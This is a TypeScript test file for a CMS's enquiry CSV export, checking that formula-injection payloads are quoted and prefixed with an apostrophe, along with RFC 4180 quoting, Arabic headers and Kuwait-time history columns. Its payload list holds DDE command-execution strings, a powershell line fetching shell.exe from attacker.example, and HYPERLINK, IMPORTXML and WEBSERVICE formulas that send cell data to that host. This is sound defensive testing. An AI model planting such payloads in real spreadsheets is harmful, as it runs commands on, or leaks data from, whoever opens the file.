import { describe, expect, it } from 'vitest'

import { CSV_COLUMNS, CSV_HEADERS, csvCell, toCsv } from '@/cms/endpoints/export-enquiries'

/**
 * Formula-injection payloads from OWASP's "CSV Injection" page and the public
 * lists built on it (DDE command execution, HYPERLINK/IMPORTXML exfiltration,
 * formulas hidden behind a leading tab, CR or LF, and formulas that start
 * after a separator or line break inside the value, where a spreadsheet that
 * splits on `;` or tabs, or ignores the quoting, would begin a new cell).
 */
const OWASP_PAYLOADS = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(1+1)',
  "=cmd|' /C calc'!A0",
  "=cmd|' /C notepad'!'A1'",
  "=cmd|'/C powershell IEX(wget attacker.example/shell.exe)'!A0",
  "=cmd|'/c rundll32.exe \\\\10.0.0.1\\3\\2\\1.dll,0'!_xlbgnm.A1",
  '=DDE("cmd";"/C calc";"!A0")A0',
  "@SUM(1+9)*cmd|' /C calc'!A0",
  "=10+20+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "+2+3+cmd|' /C calc'!A0",
  '=HYPERLINK("http://attacker.example?leak="&A1&A2, "Error: please click for details")',
  '=IMPORTXML(CONCAT("http://attacker.example/?v=", CONCATENATE(A2:E2)), "//a")',
  '=WEBSERVICE("http://attacker.example/?"&A1)',
  '=IMAGE("http://attacker.example/pixel.png")',
  "='file:///etc/passwd'#$passwd.A1",
  '=INFO("system")',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '\t',
  '\r',
  ' =1+1',
  'x;=cmd',
  'x,=cmd',
  'x\t=1+1',
  'x; =1+1',
  'x\r=1+1',
  'x\n=1+1',
  'x\r\n@SUM(1+1)',
  "Thanks!\n-2+3+cmd|' /C calc'!A0",
  'x"=1+1',
  'x",=1+1',
  "x'=1+1",
] as const

/** Cells a spreadsheet has no reason to read as a formula: left as they are (RFC 4180 only). */
const HARMLESS = [
  ['plain', 'plain'],
  ['a,b', '"a,b"'],
  ['say "hi"', '"say ""hi"""'],
  ['line\nbreak', '"line\nbreak"'],
  ['سارة', 'سارة'],
  ['info@example.com', 'info@example.com'],
  ['50-100', '50-100'],
  ['1+1=2', '1+1=2'],
  ['', ''],
] as const

/** Reads one RFC 4180 cell back: the text a spreadsheet gets once it has removed the quoting. */
function unquote(cell: string): string {
  return cell.startsWith('"') ? cell.slice(1, -1).replace(/""/g, '"') : cell
}

describe('enquiry CSV export', () => {
  it.each(OWASP_PAYLOADS)('neutralises the OWASP payload %j', (payload) => {
    const cell = csvCell(payload)
    // Quoted whole, so no separator or line break inside can start a cell of its own…
    expect(cell.startsWith('"') && cell.endsWith('"')).toBe(true)
    // …with a leading apostrophe, so the spreadsheet reads the cell as text…
    expect(unquote(cell)).toBe(`'${payload}`)
    // …and nothing outside the quotes.
    expect(cell.slice(1, -1).replace(/""/g, '')).not.toContain('"')
  })

  it.each(HARMLESS)('leaves %j as text a spreadsheet shows unchanged', (value, expected) => {
    expect(csvCell(value)).toBe(expected)
  })

  it('writes empty cells for missing values and quotes formulas with quotes inside', () => {
    expect(csvCell(null)).toBe('')
    expect(csvCell(undefined)).toBe('')
    expect(csvCell('=HYPERLINK("x")')).toBe(`"'=HYPERLINK(""x"")"`)
  })

  it('writes a header row and one row per enquiry, with a BOM for Arabic text', () => {
    const csv = toCsv([{ name: 'سارة', company: 'Acme', status: 'new', full_mobile: '+965 5555' }])
    expect(csv.startsWith('\uFEFF')).toBe(true)
    const [header, row] = csv.slice(1).trimEnd().split('\r\n')
    expect(header).toBe(CSV_COLUMNS.map((column) => CSV_HEADERS[column].en).join(','))
    expect(row.split(',')[CSV_COLUMNS.indexOf('status')]).toBe('New')
    expect(row.split(',')[CSV_COLUMNS.indexOf('name')]).toBe('سارة')
    expect(row.split(',')[CSV_COLUMNS.indexOf('full_mobile')]).toBe(`"'+965 5555"`)
    // The code and the number in columns of their own, neither starting with "+": no apostrophe.
    const phone = toCsv([{ country_code: '+965', mobile: '50123456' }])
      .split('\r\n')[1]!
      .split(',')
    expect(phone[CSV_COLUMNS.indexOf('country_code')]).toBe('965')
    expect(phone[CSV_COLUMNS.indexOf('mobile')]).toBe('50123456')
  })

  it('writes headers and statuses in Arabic for an Arabic admin, and times in Kuwait time', () => {
    const csv = toCsv(
      [
        {
          status: 'answered',
          submitted_at: '2026-11-25T06:30:00.000Z',
          assignee: { name: 'سارة' },
        },
      ],
      'ar',
    )
    const [header, row] = csv.slice(1).trimEnd().split('\r\n')
    expect(header.split(',')[0]).toBe('وقت الإرسال (بتوقيت الكويت)')
    const cells = row.split(',')
    expect(cells[CSV_COLUMNS.indexOf('submitted_at')]).toBe('2026-11-25 09:30:00')
    expect(cells[CSV_COLUMNS.indexOf('status')]).toBe('تم الرد')
    expect(cells[CSV_COLUMNS.indexOf('assignee')]).toBe('سارة')
    // A time that cannot be read is left empty, not "Invalid Date".
    expect(
      toCsv([{ submitted_at: 'not a date' }])
        .split('\r\n')[1]
        .split(',')[0],
    ).toBe('')
  })

  it('carries the notes and the status history, each line with its time, author and words', () => {
    const history = [
      {
        at: '2026-11-25T06:30:00.000Z',
        kind: 'status',
        by_name: 'Huda',
        old_value: 'new',
        new_value: 'in progress',
      },
      {
        at: '2026-11-25T07:00:00.000Z',
        kind: 'note',
        by_name: 'Huda',
        note: 'Called; demo Sunday.',
      },
      { at: '2026-11-25T07:05:00.000Z', kind: 'assignee', by_name: 'Huda', new_value: 'Yousef' },
      { at: '2026-11-26T05:00:00.000Z', kind: 'note', by_name: 'Yousef', note: 'Sent\n=1+1' },
      {
        at: '2026-11-26T05:10:00.000Z',
        kind: 'status',
        by_name: 'Yousef',
        old_value: 'in progress',
        new_value: 'answered',
      },
    ]
    const header = CSV_COLUMNS.map((column) => CSV_HEADERS[column].en)
    expect(header).toContain('Notes (Kuwait time)')
    const english = toCsv([{ name: 'Sara', history }])
    // The second note starts a line with a formula: the whole cell is neutralised and quoted.
    expect(english).toContain(
      `"'2026-11-25 10:00:00 Huda: Called; demo Sunday.\n2026-11-26 08:00:00 Yousef: Sent\n=1+1"`,
    )
    expect(english).toContain(
      '2026-11-25 09:30:00 Huda: New → In progress\n2026-11-26 08:10:00 Yousef: In progress → Answered',
    )
    const arabic = toCsv([{ history }], 'ar')
    expect(arabic).toContain('سجل الحالة (بتوقيت الكويت)')
    expect(arabic).toContain('Huda: جديد → قيد المتابعة')
    // No history, no lines.
    const empty = toCsv([{ name: 'x' }])
      .split('\r\n')[1]
      .split(',')
    expect(empty[CSV_COLUMNS.indexOf('notes')]).toBe('')
  })

  it('adds a built form’s answers as columns, headed by its questions, formulas neutralised', () => {
    const answers = [
      { name: 'full_name', label: 'Full name', kind: 'text', value: '=cmd|calc' },
      {
        name: 'sessions',
        label: 'Sessions',
        kind: 'checkboxes',
        value: ['kuwait', 'abu-dhabi'],
        shown: ['Kuwait', 'Abu Dhabi'],
      },
      { name: 'consent', label: 'I agree', kind: 'consent', value: 'yes' },
    ]
    const csv = toCsv([
      { name: 'Sara', answers },
      // The contact form's enquiries have no answers: their cells stay empty.
      { name: 'Omar' },
    ])
    const [header, first, second] = csv.slice(1).trimEnd().split('\r\n')
    const extra = header.split(',').slice(CSV_COLUMNS.length)
    expect(extra).toEqual(['Full name (full_name)', 'Sessions (sessions)', 'I agree (consent)'])
    expect(first.endsWith(`"'=cmd|calc","Kuwait, Abu Dhabi",✓`)).toBe(true)
    expect(second.endsWith(',,,')).toBe(true)
  })

  it('keeps a multi-line payload inside its own row and cell', () => {
    const csv = toCsv([{ name: 'x', message: 'hello\r\n=1+1', subject: 'y;=cmd' }])
    const body = csv.slice(1).split('\r\n').slice(1).join('\r\n')
    expect(body).toContain(`"'hello\r\n=1+1"`)
    expect(body).toContain(`"'y;=cmd"`)
  })
})
